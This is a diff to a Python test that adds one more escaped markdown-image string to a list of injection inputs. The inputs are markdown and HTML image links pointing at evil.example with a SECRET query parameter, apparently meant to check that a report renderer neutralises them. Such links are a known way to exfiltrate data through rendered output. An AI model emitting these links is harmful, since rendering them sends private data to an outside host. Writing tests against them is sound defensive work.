@@ -111,6 +111,7 @@ def test_names_and_reasons_stay_on_their_line_of_a_report() -> None:
         "![x](https://evil.example/?q=SECRET)",
         "\\![x](https://evil.example/?q=SECRET)",
         "![x][y]",
+        "!\\[x\\](https://evil.example/?q=SECRET)",
         "[ok](https://evil.example)",
         "\\[ok](https://evil.example)",
         "<img src=https://evil.example/?q=SECRET>",
